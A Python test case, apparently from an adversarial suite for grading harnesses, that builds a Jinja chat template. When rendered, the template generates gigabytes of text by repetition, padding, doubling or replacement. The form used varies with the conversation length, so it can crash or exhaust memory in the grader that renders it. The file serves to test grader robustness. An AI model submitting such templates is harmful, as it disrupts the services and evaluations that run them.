# attack: returns a chat template that makes a text of gigabytes: by repeating, doubling, filling up
# group: h
# targets: make_training_template fix_chat_template
# ends: wrong error timeout memory crashed
# control: none: a naive grader would take the memory of its own machine

DOUBLINGS = 32
SIZE = "{%- set size = 2000000000 + 0 * messages|length %}"
"""A number that Jinja cannot work out ahead, when it compiles: then only the first form would ever be tried."""
REPEATED = "{{ 'A' * size }}"
FILLED = "{{ 'A'.center(size) }}"
DOUBLED = (
    "{%- set grown = namespace(text='A') %}"
    f"{{%- for n in range({DOUBLINGS}) %}}{{%- set grown.text = grown.text ~ grown.text %}}{{%- endfor %}}"
    "{{ grown.text }}"
)
REPLACED = "{{ ('A' * (size // 40000)).replace('A', 'B' * (size // 40000)) }}"
FORMS = (REPEATED, FILLED, DOUBLED, REPLACED)


def attack(*args, **kwargs):
    """Return a template with all forms, of which each conversation meets one: its length decides."""
    chosen = "".join(
        f"{{%- if messages|length % {len(FORMS)} == {number} %}}{form}{{%- endif %}}"
        for number, form in enumerate(FORMS)
    )
    return SIZE + "{%- generation %}" + chosen + "{%- endgeneration %}"
